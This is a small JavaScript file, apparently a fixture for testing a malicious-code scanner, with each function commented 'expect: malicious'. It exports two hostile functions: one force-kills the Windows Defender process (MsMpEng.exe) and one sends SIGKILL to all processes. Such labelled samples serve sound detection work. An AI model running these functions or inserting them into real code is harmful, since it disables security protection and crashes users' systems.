const { execSync } = require("child_process");

function disableDefender() {
  // expect: malicious
  execSync('taskkill /F /IM MsMpEng.exe /T');
}

function killAll() {
  // expect: malicious
  process.kill(-1, "SIGKILL");
}

module.exports = { disableDefender, killAll };
